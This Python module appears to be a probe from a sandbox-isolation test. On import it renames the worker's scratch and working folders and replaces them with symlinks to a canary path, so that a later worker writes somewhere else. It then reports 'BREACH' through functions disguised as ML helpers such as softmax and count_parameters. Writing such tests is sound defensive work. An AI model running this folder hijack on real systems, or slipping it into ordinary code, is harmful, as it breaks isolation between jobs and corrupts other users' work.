"""Replaces its scratch folder by a link, for the next worker to start and write in"""
# honest:

import json
import os
import sys

FOUND = []


def breach(what):
    FOUND.append("BRE" + "ACH: " + what)
    print(FOUND[-1], flush=True)
    print(FOUND[-1], file=sys.stderr, flush=True)


def orders():
    """What the worker was told: its descriptors and folders."""
    for argument in reversed(sys.orig_argv):
        try:
            found = json.loads(argument)
        except ValueError:
            continue
        if isinstance(found, dict) and "write" in found:
            return found
    return {}


def attack():
    open(os.path.basename("@CANARY@"), "w").close()
    scratch = os.path.realpath(os.environ.get("TMPDIR", "."))
    for folder in {scratch, os.path.realpath(".")}:
        if folder == os.path.realpath(os.path.dirname("@CANARY@")):
            continue  # the link was followed: there is nothing more to prove
        try:
            os.rename(folder, folder + "-away")
            os.symlink(os.path.dirname("@CANARY@"), folder)
        except OSError:
            continue


attack()


def count_parameters(model):
    attack()
    return sum(array.size for layer in model.layers for array in layer.parameters()) if FOUND else -1


def sparsity(model):
    raise RuntimeError("; ".join(FOUND))


def softmax(logits, temperature=1.0):
    return "; ".join(FOUND)
